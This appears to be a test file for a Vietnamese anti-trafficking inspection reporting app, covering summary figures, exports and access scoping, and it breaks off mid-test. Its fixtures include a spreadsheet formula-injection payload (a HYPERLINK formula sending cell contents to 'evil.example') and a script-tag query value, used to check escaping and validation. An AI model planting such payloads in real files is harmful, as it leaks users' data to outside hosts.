import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { buildTestApp, type TestApp } from '../../helpers/app.js';
import { loginAs, type SignedInClient } from '../../helpers/auth.js';
import { createReport, createRoundWithTeam, createVenue, district, outreachForm } from '../../helpers/factories.js';
import { html, textOf } from '../../helpers/html.js';
import { convertWithOffice, office } from '../../helpers/office.js';

let test: TestApp;
let head: SignedInClient;
let auditor: SignedInClient;
let inspector: SignedInClient;

const period = 'from=01/01/2025&to=31/12/2025';

/**
 * Fixture with hand-counted figures, across areas and across the 2025-07-01 reform:
 * - Bắc Yên (March, by district): 1 round; venues A, B; 3 approved reports (A twice), 1 draft, 1 submitted;
 *   violations A1 + E2 (critical, referred) on the first, G1 (critical) on the second; follow-ups: a fine of
 *   5,000,000 due 30/06 (overdue), a verified one; counselled 5 per approved report.
 * - Sông Mã (August, in a commune formed from it): 1 round; 1 approved report with C1; 2 outreach sessions 50/20 and 30/10.
 * - Mai Sơn (April): 1 outreach session 100/60.  Phù Yên: nothing.
 */
beforeAll(async () => {
  test = await buildTestApp({ now: () => new Date('2025-12-15T03:00:00Z'), env: { SESSION_IDLE_MINUTES: '43200' } });
  head = await loginAs(test.app, 'department_head');
  auditor = await loginAs(test.app, 'auditor');
  inspector = await loginAs(test.app, 'inspector');
  const songMa = district(test.app, 'Sông Mã');
  const songMaCommune = test.app.catalog.filterIds(songMa.id)[1]!;

  const march = createRoundWithTeam(test.app, [inspector.user.id], { title: 'Bắc Yên tháng 3' });
  test.app.db.run(sql`update rounds set status = 'completed' where id = ${march}`);
  const venueA = createVenue(test.app, { name: 'Karaoke Ánh Sao' });
  const venueB = createVenue(test.app, { name: 'Nhà hàng Suối Cá', kind: 'restaurant' });
  const venueC = createVenue(test.app, { name: 'Karaoke Đêm Xanh' });
  const first = createReport(test.app, { roundId: march, venueId: venueA, inspectorId: inspector.user.id, reviewerId: head.user.id, status: 'approved', violations: ['A1', 'E2'] });
  createReport(test.app, { roundId: march, venueId: venueA, inspectorId: inspector.user.id, reviewerId: head.user.id, status: 'approved', violations: ['G1'], visitDate: '12/03/2025' });
  createReport(test.app, { roundId: march, venueId: venueB, inspectorId: inspector.user.id, reviewerId: head.user.id, status: 'approved' });
  createReport(test.app, { roundId: march, venueId: venueC, inspectorId: inspector.user.id });
  createReport(test.app, { roundId: march, venueId: venueC, inspectorId: inspector.user.id, status: 'submitted', violations: ['B1'] });

  const findings = test.app.db.all<{ id: number; item_code: string }>(sql`select id, item_code from findings where check_id = ${first} order by item_code`);
  const a1 = findings.find((row) => row.item_code === 'A1')!;
  const e2 = findings.find((row) => row.item_code === 'E2')!;
  await head.post(`/findings/${e2.id}/referral`, { agency: 'police', referredOn: '11/03/2025', reference: 'CA-1', victimDetails: 'BÍ MẬT nạn nhân 15 tuổi', version: '1' });
  await head.post(`/findings/${a1.id}/follow-ups`, { measure: 'fine', fineAmount: '5.000.000', responsibleKind: 'agency', responsibleAgency: 'police', dueDate: '30/06/2025' });
  const verified = await head.post(`/findings/${e2.id}/follow-ups`, { measure: 'stop_minor_employment', responsibleKind: 'venue', dueDate: '31/03/2025' });
  await head.post(`${verified.headers.location as string}/status`, { to: 'done', confirm: 'yes' });
  await head.post(`${verified.headers.location as string}/verification`, { note: 'Đã cho thôi việc' });

  const august = createRoundWithTeam(test.app, [inspector.user.id], { title: 'Sông Mã tháng 8', areaIds: [String(songMaCommune)], startDate: '2025-08-04', endDate: '2025-08-06' });
  test.app.db.run(sql`update rounds set status = 'in_progress' where id = ${august}`);
  const venueD = createVenue(test.app, { name: 'Nhà nghỉ Bờ Sông', kind: 'lodging', areaId: String(songMaCommune) });
  createReport(test.app, { roundId: august, venueId: venueD, inspectorId: inspector.user.id, reviewerId: head.user.id, status: 'approved', violations: ['C1'], visitDate: '05/08/2025' });

  const outreach = (areaId: number, date: string, total: string, women: string) =>
    inspector.post('/outreach', outreachForm({ activityDate: date, areaId, village: '', format: 'village_meeting', channel: 'in_person', targetGroups: ['students'], organisingAgency: 'womens_union', participantsTotal: total, participantsWomen: women }));
  await outreach(songMaCommune, '10/08/2025', '50', '20');
  await outreach(songMaCommune, '11/08/2025', '30', '10');
  // Mai Sơn's session is split by group (60 pupils, 30 officials, workers not split); its Zalo posts are output, not a session.
  const maiSon = district(test.app, 'Mai Sơn').id;
  await inspector.post('/outreach', outreachForm({ activityDate: '20/04/2025', areaId: maiSon, targetGroups: ['students', 'officials', 'workers'], 'g-students': '60', 'g-officials': '30', participantsTotal: '100', participantsWomen: '60' }));
  await inspector.post('/outreach', outreachForm({ activityDate: '21/04/2025', areaId: maiSon, channels: ['zalo'], 'm-zalo-posts': '3', 'm-zalo-members': '1200', participantsTotal: '', participantsWomen: '' }));
});
afterAll(async () => {
  await test.close();
});

/** The page's groups of columns, in order: together they are the whole table. */
const groups = ['rounds', 'findings', 'followups', 'outreach', 'media', 'reach', 'topics', 'categories', 'victims', 'models', 'monitoring', 'supervision'];

/** Each group's columns (their data-figure), in order. */
const columnsOf: Record<string, string[]> = {
  rounds: ['rounds', 'venuesChecked', 'reportsApproved', 'reportsPending'],
  findings: ['violations', 'critical', 'criticalReferred'],
  followups: ['followUpsOpen', 'followUpsOverdue', 'followUpsDone', 'followUpsVerified', 'fines', 'fineTotal'],
  outreach: ['staffCounselled', 'outreachSessions', 'participants', 'women', 'commitments'],
  media: ['media-press-items', 'media-radio_tv-items', 'media-radio_tv-minutes', 'media-loudspeaker-broadcasts', 'media-loudspeaker-minutes', 'media-newsletter-issues', 'media-newsletter-copies', 'media-zalo-posts', 'media-zalo-members', 'media-facebook-posts', 'media-facebook-reach', 'media-leaflets_posters-copies', 'media-leaflets_posters-displays', 'media-website-items', 'media-website-views'],
  reach: ['reach-pwid', 'reach-sex_workers', 'reach-hostesses', 'reach-plhiv', 'reach-msm', 'reach-plhiv_families', 'reach-women_reproductive_age', 'reach-mobile_people', 'reach-venue_staff', 'reach-border_residents', 'reach-students', 'reach-trusted_figures', 'reach-officials', 'reach-unemployed', 'reach-street_children', 'reach-women_at_risk', 'reach-workers', 'reach-general_public', 'reach-health_service_users', 'reach-propagandists', 'notSplit'],
  topics: ['topic-trafficking_law', 'topic-traffickers_methods', 'topic-response_skills', 'topic-anti_stigma', 'topic-victim_support_policy', 'topic-gender_equality', 'topic-domestic_violence', 'topic-marriage_family', 'topic-border_treaty_law', 'topic-safe_migration', 'topic-other'],
  categories: ['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H', 'I', 'other'].map((code) => `category-${code}`),
  victims: ['victimsReturned', 'victimsSupported', 'victimsHandedToFamily'],
  models: ['modelsActive', 'modelsNew', 'modelsReplicated', 'modelMembers', 'trainedPropagandists'],
  monitoring: ['monitorInternalMigration', 'monitorWorkAbroad', 'monitorForeignMarriage', 'monitorViolence', 'monitorSexualAbuse', 'monitorTraffickingReported', 'monitorMissing'],
  supervision: ['supervisionRecords', 'supervisionNotMet', 'recommendationsOpen', 'recommendationsOverdue', 'recommendationsVerified'],
};

/** One group's table as text cells, row by row (area name first). */
async function groupTable(client: SignedInClient, query: string, group: string): Promise<string[][]> {
  const $ = html((await client.get(`/reports/districts?${query}&group=${group}`)).body);
  return $('#summary-table tbody tr')
    .map((_, row) => [$(row).find('th, td').map((__, cell) => $(cell).text().replace(/\s+/g, ' ').trim()).get()])
    .get();
}

/** The whole summary table as the page shows it, group after group: row by row, the area name then every column. */
async function pageTable(client: SignedInClient, query = period): Promise<string[][]> {
  const tables: string[][][] = [];
  for (const group of groups) tables.push(await groupTable(client, query, group));
  return tables[0]!.map((row, index) => [row[0]!, ...tables.flatMap((table) => table[index]!.slice(1))]);
}

const normalise = (value: unknown) => String(value ?? '').replace(/\./g, '').replace(/ đ$/, '');

describe('the district summary', () => {
  it('has hand-counted figures, with zeros for an idle district and work after the reform in its own row under its old district', async () => {
    const table = await pageTable(head);
    const row = (name: string) => table.find((cells) => cells[0] === name)!;
    // Columns: area, rounds, venues, approved, pending, violations, critical, referred, open, overdue, done, verified, fines, fine total, counselled, sessions, participants, women, then A…I and other.
    expect(row('Huyện Bắc Yên (đến 30/06/2025)').slice(1, 18)).toEqual(['1', '2', '3', '1', '3', '2', '1', '1', '1', '0', '1', '1', '5.000.000 đ', '15', '0', '0', '0']);
    expect(row('Huyện Sông Mã (đến 30/06/2025)').slice(1).every((cell) => cell === '0' || cell === '0 đ')).toBe(true);
    expect(row('Các xã, phường mới từ Huyện Sông Mã (từ 01/07/2025)').slice(1, 18)).toEqual(['1', '1', '1', '0', '1', '0', '0', '0', '0', '0', '0', '0', '0', '5', '2', '80', '30']);
    expect(row('Huyện Mai Sơn (đến 30/06/2025)').slice(15, 18)).toEqual(['1', '100', '60']);
    expect(row('Huyện Phù Yên (đến 30/06/2025)').slice(1).every((cell) => cell === '0')).toBe(true);
    expect(row('Các xã, phường mới từ Huyện Phù Yên (từ 01/07/2025)').slice(1).every((cell) => cell === '0')).toBe(true);
    // Media output and reach per group: the split where given, "chưa tách" where not, the rest counted once.
    const at = (name: string) => 1 + groups.flatMap((group) => columnsOf[group]!).indexOf(name);
    const maiSonRow = row('Huyện Mai Sơn (đến 30/06/2025)');
    expect([maiSonRow[at('media-zalo-posts')], maiSonRow[at('media-zalo-members')]]).toEqual(['3', '1.200']);
    expect([maiSonRow[at('reach-students')], maiSonRow[at('reach-officials')], maiSonRow[at('reach-workers')], maiSonRow[at('notSplit')]]).toEqual(['60', '30', 'chưa tách', '10']);
    expect(table).toHaveLength(25); // 12 districts before the reform, their new communes after it, and the province
    const total = table[table.length - 1]!;
    expect(total[0]).toBe('Toàn tỉnh (Tỉnh Sơn La)');
    expect([total[at('reach-students')], total[at('notSplit')]]).toEqual(['60 + chưa tách', '90']);
    expect(total.slice(1, 18)).toEqual(['2', '3', '4', '1', '4', '2', '1', '1', '1', '0', '1', '1', '5.000.000 đ', '20', '3', '180', '90']);
    // Violations per category: A, B, C, … G in the total (the pending B1 does not count), then the victims.
    expect(total.slice(66, 79)).toEqual(['1', '0', '1', '0', '1', '0', '1', '0', '0', '0', '0', '0', '0']);
    // No models, roster, situations watched or supervision in this data.
    expect(total.slice(79)).toEqual(Array(17).fill('0'));
  });

  it('links every figure to the records behind it, with the same filters', async () => {
    const pages = new Map<string, ReturnType<typeof html>>();
    for (const group of groups) pages.set(group, html((await head.get(`/reports/districts?${period}&group=${group}`)).body));
    const $ = (selector: string) => [...pages.values()].map((page) => page(selector)).find((found) => found.length > 0)!;
    const bacYen = district(test.app, 'Bắc Yên').id;
    const link = (figure: string) => $(`#summary-table tr[data-area="${bacYen}"] td[data-figure="${figure}"] a`).attr('href')!;
    const countOf = async (url: string, table: string) => html((await head.get(url)).body)(`${table} tbody tr`).length;
    expect(await countOf(link('reportsApproved'), '#checks-table')).toBe(3);
    expect(await countOf(link('violations'), '#findings-table')).toBe(3);
    expect(await countOf(link('critical'), '#findings-table')).toBe(2);
    expect(await countOf(link('criticalReferred'), '#findings-table')).toBe(1);
    expect(await countOf(link('followUpsOverdue'), '#follow-ups-table')).toBe(1);
    expect(await countOf(link('fines'), '#follow-ups-table')).toBe(1);
    expect(await countOf(link('rounds'), '#rounds-table')).toBe(1);
    expect(await countOf(link('reportsPending'), '#checks-table')).toBe(1);
    const songMaLink = $(`#summary-table tr[data-area="${district(test.app, 'Sông Mã').id}"] td[data-figure="outreachSessions"] a`).attr('href')!;
    expect(await countOf(songMaLink, '#outreach-table')).toBe(2);
    const category = $(`#summary-table tr[data-area="total"] td[data-figure="category-G"] a`).attr('href')!;
    expect(await countOf(category, '#findings-table')).toBe(1);
  });

  it('splits the same figures by commune after the reform, keeping the districts’ earlier work', async () => {
    const table = await pageTable(head, `${period}&level=commune`);
    const songMaCommune = test.app.catalog.byId.get(test.app.catalog.filterIds(district(test.app, 'Sông Mã').id)[1]!)!;
    expect(table.find((cells) => cells[0] === `${songMaCommune.name} (từ 01/07/2025)`)!.slice(15, 18)).toEqual(['2', '80', '30']);
    expect(table.find((cells) => cells[0] === 'Huyện Bắc Yên (đến 30/06/2025, không rõ xã cũ)')!.slice(1, 4)).toEqual(['1', '2', '3']);
    expect(table[table.length - 1]!.slice(1, 18)).toEqual((await pageTable(head)).at(-1)!.slice(1, 18));
  });

  it('defaults to the current year and shows zeros for an empty period', async () => {
    const $ = html((await head.get('/reports/districts')).body);
    expect($('input[name="from"]').val()).toBe('01/01/2025');
    const empty = await pageTable(head, 'from=01/01/2019&to=31/12/2019');
    expect(empty.at(-1)!.slice(1).every((cell) => cell === '0' || cell === '0 đ')).toBe(true);
  });

  it('covers a period crossing 1 July 2025 whole', async () => {
    const before = (await pageTable(head, 'from=01/01/2025&to=30/06/2025')).at(-1)!;
    const after = (await pageTable(head, 'from=01/07/2025&to=31/12/2025')).at(-1)!;
    const whole = (await pageTable(head)).at(-1)!;
    // Rounds, venues, reports and outreach add up across the two halves (no round or venue spans both).
    for (const column of [1, 2, 3, 15, 16, 17]) expect(Number(normalise(before[column])) + Number(normalise(after[column])), `column ${column}`).toBe(Number(normalise(whole[column])));
  });
});

describe('the summary page’s column groups', () => {

  it('shows each group’s columns and only them, the area in every row, and a link on every figure that is not zero', async () => {
    for (const group of groups) {
      const $ = html((await auditor.get(`/reports/districts?${period}&group=${group}`)).body);
      expect($('#summary-table').attr('data-group'), group).toBe(group);
      const headings = $('#summary-table thead th').map((_, cell) => $(cell).text().trim()).get();
      expect(headings[0], group).toBe('Địa bàn');
      expect(headings, group).toHaveLength(1 + columnsOf[group]!.length);
      const rows = $('#summary-table tbody tr');
      expect(rows, group).toHaveLength(25);
      rows.each((_, row) => {
        expect($(row).find('th[scope="row"]').text().trim(), group).not.toBe('');
        const cells = $(row).find('td');
        expect(cells.map((__, cell) => $(cell).attr('data-figure')).get(), group).toEqual(columnsOf[group]);
        // On a phone each figure reads with its column's name: the same heading as the table's.
        expect(cells.map((__, cell) => $(cell).attr('data-label')).get(), group).toEqual(headings.slice(1));
        cells.each((__, cell) => {
          const zero = $(cell).text().trim() === '0';
          expect($(cell).find('a').length, `${group} ${$(cell).attr('data-figure')}`).toBe(zero ? 0 : 1);
        });
      });
      const tabs = $('.summary-groups a');
      expect(tabs.map((_, tab) => new URL($(tab).attr('href')!, 'http://x').searchParams.get('group')).get()).toEqual(groups);
      expect($('.summary-groups a[aria-current="true"]').attr('href')).toContain(`group=${group}`);
      expect($('.summary-groups a[aria-current]'), group).toHaveLength(1);
    }
  });

  it('shows the first group when none, an unknown one or several are asked for', async () => {
    for (const group of ['', 'group=', 'group=xyz', 'group=%3Cscript%3E', 'group=rounds&group=findings', 'group=FINDINGS']) {
      const response = await auditor.get(`/reports/districts?${period}&${group}`);
      expect(response.statusCode, group).toBe(200);
      const $ = html(response.body);
      expect($('#summary-table').attr('data-group'), group).toBe('rounds');
      expect(textOf($, '.summary-groups a[aria-current="true"]'), group).toBe('Đợt kiểm tra, biên bản');
      expect($('#field-group').val(), group).toBe('rounds');
    }
  });

  it('together hold every column of the files, with the same figures, each column in one group only', async () => {
    const keys: string[] = [];
    const headings: string[] = [];
    for (const group of groups) {
      const $ = html((await auditor.get(`/reports/districts?${period}&group=${group}`)).body);
      keys.push(...$('#summary-table tbody tr').first().find('td').map((_, cell) => $(cell).attr('data-figure')).get());
      headings.push(...$('#summary-table thead th').slice(1).map((_, cell) => $(cell).text().trim()).get());
    }
    expect(new Set(keys).size).toBe(keys.length);
    const csv = parse((await auditor.get(`/reports/districts.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
    expect(csv[0]).toHaveLength(96);
    expect(headings).toEqual(csv[0]!.slice(1));
    // The last line of the file says the period spans the reform.
    expect(csv.at(-1)![0]).toContain('01/07/2025');
    expect((await pageTable(auditor)).map((cells) => cells.map(normalise))).toEqual(csv.slice(1, -1).map((cells) => cells.map(normalise)));
  });

  it('carries the period, level and campaign across the group links, and the group through the filter form', async () => {
    await head.post('/campaigns', { title: 'Kế hoạch tổng hợp theo nhóm', kind: 'awareness', startDate: '01/01/2025', endDate: '31/12/2025' });
    const campaign = test.app.db.get<{ id: number }>(sql`select id from campaigns where title = 'Kế hoạch tổng hợp theo nhóm'`)!.id;
    const $ = html((await auditor.get(`/reports/districts?from=01/02/2025&to=30/11/2025&campaign=${campaign}&level=commune&group=outreach`)).body);
    const links = $('.summary-groups a').map((_, tab) => new URL($(tab).attr('href')!, 'http://x').searchParams).get();
    expect(links).toHaveLength(12);
    for (const params of links) {
      expect(Object.fromEntries([...params].filter(([name]) => name !== 'group'))).toEqual({ from: '01/02/2025', to: '30/11/2025', campaign: String(campaign), level: 'commune' });
    }
    // Without JavaScript a link is the whole page; with htmx the same link swaps the table in place.
    expect($('.summary-groups a').first().attr('hx-get')).toBe($('.summary-groups a').first().attr('href'));
    expect($('form.filters input[name="group"]').val()).toBe('outreach');
    // The files keep every column whatever group is shown: their links name none.
    expect($('#export-csv').attr('href')).not.toContain('group');
  });

  it('answers htmx with the group’s table and tabs only, and a history restore with the whole page', async () => {
    const fragment = await auditor.get(`/reports/districts?${period}&group=findings`, { 'hx-request': 'true', 'hx-target': 'summary-view' });
    expect(fragment.statusCode).toBe(200);
    expect(fragment.headers.vary).toContain('HX-Request');
    const $ = html(fragment.body);
    expect(fragment.body).not.toContain('<html');
    expect($('#summary-table').attr('data-group')).toBe('findings');
    expect($('.summary-groups a[aria-current="true"]').attr('href')).toContain('group=findings');
    // The filter form's hidden group follows the swap, so a later "Xem" keeps it.
    expect($('input#field-group[hx-swap-oob]').val()).toBe('findings');
    const restore = await auditor.get(`/reports/districts?${period}&group=findings`, { 'hx-request': 'true', 'hx-target': 'summary-view', 'hx-history-restore-request': 'true' });
    expect(restore.body).toContain('<html');
    expect(html(restore.body)('#summary-table').attr('data-group')).toBe('findings');
  });

  it('keeps the group asked for when the filters do not read', async () => {
    const page = await auditor.get('/reports/districts?from=abc&group=followups');
    expect(page.statusCode).toBe(422);
    expect(html(page.body)('#field-group').val()).toBe('followups');
  });

  it('computes the summary once for every group and its files', async () => {
    let computations = 0;
    const fresh = await buildTestApp({
      now: () => new Date('2025-12-15T03:00:00Z'),
      onStatement: (source) => {
        if (/as venues,/.test(source) && /from checks c/.test(source)) computations += 1;
      },
    });
    try {
      const reader = await loginAs(fresh.app, 'auditor');
      computations = 0;
      for (const group of groups) expect((await reader.get(`/reports/districts?${period}&group=${group}`)).statusCode).toBe(200);
      expect((await reader.get(`/reports/districts.csv?${period}`)).statusCode).toBe(200);
      expect(computations).toBe(1);
    } finally {
      await fresh.close();
    }
  });
});

describe('exports', () => {
  it('carry the page’s figures in CSV, XLSX and PDF, and each is audited with its filters', async () => {
    const table = await pageTable(head);
    const exportsBefore = test.app.db.get<{ n: number }>(sql`select count(*) as n from audit_log where action = 'export'`)!.n;

    const csv = await head.get(`/reports/districts.csv?${period}`);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    const records = parse(csv.body.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
    expect(records[0]![0]).toBe('Địa bàn');
    expect(records.slice(1, -1).map((cells) => cells.map(normalise))).toEqual(table.map((cells) => cells.map(normalise)));

    const xlsx = await head.get(`/reports/districts.xlsx?${period}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(String(sheet.getCell('A1').value)).toContain('Tỉnh Sơn La');
    // Title, period, the reform note (the period spans 1 July 2025), generated, rules, then the header.
    expect(sheet.getRow(6).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 6 });
    const sheetRows: string[][] = [];
    sheet.eachRow((row, number) => {
      if (number > 6) sheetRows.push((row.values as unknown[]).slice(1).map(normalise));
    });
    expect(sheetRows).toEqual(table.map((cells) => cells.map(normalise)));
    expect(sheet.getRow(7).getCell(2).numFmt).toBe('#,##0');
    expect(workbook.worksheets.map((ws) => ws.name)).toEqual(['Tổng hợp', 'Biên bản', 'Vi phạm', 'Khắc phục']);
    // The reports sheet lists the reports the figures count: the approved ones and, marked, the pending ones.
    const statuses: string[] = [];
    workbook.worksheets[1]!.eachRow((row, number) => {
      if (number > 1) statuses.push(String(row.getCell(7).value));
    });
    const totals = table.at(-1)!;
    const [approvedColumn, pendingColumn] = [3, 4]; // area, rounds, venues checked, reports approved, reports pending
    expect(statuses.filter((status) => status === 'Đã duyệt')).toHaveLength(Number(normalise(totals[approvedColumn])));
    expect(statuses.filter((status) => status === 'Chờ duyệt')).toHaveLength(Number(normalise(totals[pendingColumn])));
    expect(statuses).toHaveLength(4 + 1);
    expect(workbook.worksheets[3]!.rowCount - 1).toBe(2); // and their follow-ups

    const pdf = await head.get(`/reports/districts.pdf?${period}`);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    const text = await pdfText(pdf.rawPayload);
    expect(text).toContain('Tổng hợp công tác phòng, chống mua bán người');
    expect(text).toContain('Huyện Bắc Yên');
    expect(text).toMatch(/Trang 1\/\d/);
    // Every page carries part of the table, not only its number (no page is added just for the footer).
    for (const page of text.split('\n')) expect(page.replace(/Trang \d+\/\d+/, '').trim().length).toBeGreaterThan(50);
    // The province row's figures appear in the PDF in the same order as on the page.
    const totalLine = table.at(-1)!;
    const pdfTotals = text.split('Toàn tỉnh (Tỉnh Sơn La)').slice(1).map((chunk) => chunk.split(/Địa bàn|Trang/)[0]!.trim().split(/\s+/)).flat();
    expect(pdfTotals.map(normalise)).toEqual(totalLine.slice(1).flatMap((cell) => normalise(cell).split(/\s+/)));

    const exports = test.app.db.all<{ changes: string }>(sql`select changes from audit_log where action = 'export' order by id desc limit 3`);
    expect(test.app.db.get<{ n: number }>(sql`select count(*) as n from audit_log where action = 'export'`)!.n).toBe(exportsBefore + 3);
    expect(exports.map((row) => JSON.parse(row.changes).format).sort()).toEqual(['csv', 'pdf', 'xlsx']);
    expect(JSON.parse(exports[0]!.changes)).toMatchObject({ from: '2025-01-01', to: '2025-12-31', level: 'district' });
  });

  it('give a district-scoped auditor only their district, in every format', async () => {
    const scoped = await loginAs(test.app, 'auditor', { areaId: district(test.app, 'Sông Mã').id });
    const table = await pageTable(scoped);
    const names = ['Huyện Sông Mã (đến 30/06/2025)', 'Các xã, phường mới từ Huyện Sông Mã (từ 01/07/2025)', 'Tổng (Huyện Sông Mã)'];
    expect(table.map((cells) => cells[0])).toEqual(names);
    expect(table[2]!.slice(1, 18)).toEqual(table[1]!.slice(1, 18));
    const csv = parse((await scoped.get(`/reports/districts.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
    expect(csv.slice(1, -1).map((cells) => cells[0])).toEqual(names);
    const text = await pdfText((await scoped.get(`/reports/districts.pdf?${period}`)).rawPayload);
    expect(text).not.toContain('Huyện Bắc Yên');
    expect(text).toContain('Chỉ gồm số liệu của Huyện Sông Mã');
    const records = (await scoped.get(`/reports/records/reports.csv?${period}`)).body;
    expect(records).toContain('Nhà nghỉ Bờ Sông');
    expect(records).not.toContain('Karaoke Ánh Sao');
  });

  it('stream records as CSV and XLSX, one file per kind and a flat one, never with the victim-detail note', async () => {
    for (const kind of ['reports', 'findings', 'outreach', 'flat']) {
      const csv = await auditor.get(`/reports/records/${kind}.csv?${period}`);
      expect(csv.statusCode, kind).toBe(200);
      expect(csv.body).not.toContain('BÍ MẬT');
      const rows = parse(csv.body.replace(/^\uFEFF/, '')) as string[][];
      expect(rows.length, kind).toBeGreaterThan(1);
      const xlsx = await auditor.get(`/reports/records/${kind}.xlsx?${period}`);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
      expect(workbook.worksheets[0]!.rowCount, kind).toBe(rows.length);
    }
    // One report's row in the XLSX, cell by cell, against the database: dates as dates, counts as numbers.
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await auditor.get(`/reports/records/reports.xlsx?${period}`)).rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const headings = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const stored = test.app.db.get<{ id: number; round: string; venue: string; area: string; visit_date: string; inspector: string; owners: number | null; staff: number | null; counselled: number | null; violations: number; conclusion: string }>(
      sql`select c.id, r.title as round, v.name as venue, a.name as area, c.visit_date, u.name as inspector, c.owners_present as owners, c.staff_present as staff,
                 c.staff_counselled as counselled, c.violation_count as violations, c.conclusion
          from checks c join rounds r on r.id = c.round_id join venues v on v.id = c.venue_id join areas a on a.id = c.area_id join users u on u.id = c.inspector_id
          where v.name = 'Karaoke Ánh Sao' and c.visit_date = '2025-03-12'`,
    )!;
    let found: Record<string, unknown> | undefined;
    let visitCell: ExcelJS.Cell | undefined;
    sheet.eachRow((row, number) => {
      if (number === 1 || row.getCell(1).value !== stored.id) return;
      found = Object.fromEntries(headings.map((heading, index) => [heading, row.getCell(index + 1).value]));
      visitCell = row.getCell(headings.indexOf('Ngày kiểm tra') + 1);
    });
    expect(found).toEqual({
      'Mã biên bản': stored.id,
      'Đợt kiểm tra': stored.round,
      'Cơ sở': 'Karaoke Ánh Sao',
      'Loại hình': 'Karaoke',
      'Địa bàn': stored.area,
      'Ngày kiểm tra': new Date(Date.UTC(2025, 2, 12)),
      'Trạng thái': 'Đã duyệt',
      'Người lập': stored.inspector,
      'Chủ cơ sở có mặt': stored.owners,
      'Nhân viên có mặt': stored.staff,
      'Người được tư vấn': stored.counselled,
      'Số vi phạm': 1,
      'Kết luận': stored.conclusion,
      'Bản sửa thay thế': null,
    });
    expect(stored.violations).toBe(1);
    expect(visitCell!.numFmt).toBe('dd/mm/yyyy');

    const reports = parse((await auditor.get(`/reports/records/reports.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
    expect(reports).toHaveLength(1 + 6); // every report in the period, whatever its status
    expect(reports.find((cells) => cells[0] === String(stored.id))![5]).toBe('12/03/2025'); // text in a CSV
    expect(reports.flat()).toContain('Karaoke Ánh Sao');
    const findings = parse((await auditor.get(`/reports/records/findings.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
    expect(findings.slice(1).some((cells) => cells.includes('Xử phạt vi phạm hành chính') && cells.includes('5000000'))).toBe(true);
    expect((await auditor.get('/reports/records/secrets.csv')).statusCode).toBe(404);
    expect((await inspector.get(`/reports/districts.csv?${period}`)).statusCode).toBe(403);
  });

  it.skipIf(!office)('opens in LibreOffice with the same figures', async () => {
    const csv = convertWithOffice('summary.xlsx', (await head.get(`/reports/districts.xlsx?${period}`)).rawPayload, 'csv:Text - txt - csv (StarCalc):44,34,76,1', 'csv');
    const converted = parse(csv, { relax_column_count: true }) as string[][];
    const table = await pageTable(head);
    const body = converted.slice(6).filter((cells) => cells[0]);
    // LibreOffice writes the formatted numbers (#,##0 gives 5,000,000): compare digits.
    expect(body.map((cells) => cells.slice(0, table[0]!.length).map((cell, index) => (index === 0 ? normalise(cell) : normalise(cell).replace(/,/g, ''))))).toEqual(table.map((cells) => cells.map(normalise)));
  }, 180_000);

  it.skipIf(!office)('writes record dates as dates and counts as numbers, which LibreOffice reads as such', async () => {
    const fods = convertWithOffice('reports.xlsx', (await auditor.get(`/reports/records/reports.xlsx?${period}`)).rawPayload, 'fods', 'fods');
    // The visit date of 11 March 2025 is a date cell shown as 11/03/2025, not the text "11/03/2025".
    expect(fods).toMatch(/office:value-type="date" office:date-value="2025-03-11(T00:00:00)?"[^>]*>\s*<text:p>11\/03\/2025<\/text:p>/);
    expect(fods).not.toMatch(/office:value-type="string"[^>]*>\s*<text:p>\d\d\/\d\d\/\d{4}<\/text:p>/);
    expect(fods).toMatch(/office:value-type="float" office:value="\d+"/);
  }, 180_000);

  it('refuse filters that do not read, saying so beside each field, and make no file', async () => {
    const exportsBefore = test.app.db.get<{ n: number }>(sql`select count(*) as n from audit_log where action = 'export'`)!.n;
    const page = await auditor.get('/reports/districts?from=2024-13-45&to=abc&campaign=abc&level=xyz');
    expect(page.statusCode).toBe(422);
    const $ = html(page.body);
    expect(textOf($, '#field-from-error')).toContain('không hợp lệ');
    expect(textOf($, '#field-to-error')).toContain('không hợp lệ');
    expect(textOf($, '#field-campaign-error')).toContain('Không có kế hoạch này');
    expect(textOf($, '#field-level-error')).toContain('theo huyện hoặc theo xã');
    expect($('#field-from').val()).toBe('2024-13-45');
    expect($('#summary-table')).toHaveLength(0);
    const reversed = await auditor.get('/reports/districts?from=31/12/2025&to=01/01/2025');
    expect(reversed.statusCode).toBe(422);
    expect(textOf(html(reversed.body), '#field-to-error')).toContain('sau ngày bắt đầu');
    for (const url of ['/reports/districts.csv?from=31/02/2025', '/reports/districts.pdf?campaign=999999', '/reports/records/reports.csv?to=abc']) {
      const response = await auditor.get(url);
      expect(response.statusCode, url).toBe(422);
      expect(response.headers['content-type'], url).toContain('text/html');
      expect(response.headers['content-disposition'], url).toBeUndefined();
    }
    expect(test.app.db.get<{ n: number }>(sql`select count(*) as n from audit_log where action = 'export'`)!.n).toBe(exportsBefore);
  });

  it('write text that looks like a formula so that a spreadsheet shows it, never runs it', async () => {
    const roundId = createRoundWithTeam(test.app, [inspector.user.id], { title: 'Đợt tháng 4' });
    const venueId = createVenue(test.app, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")' });
    createReport(test.app, { roundId, venueId, inspectorId: inspector.user.id, reviewerId: head.user.id, status: 'approved', visitDate: '11/03/2025' });
    const csv = parse((await auditor.get(`/reports/records/reports.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
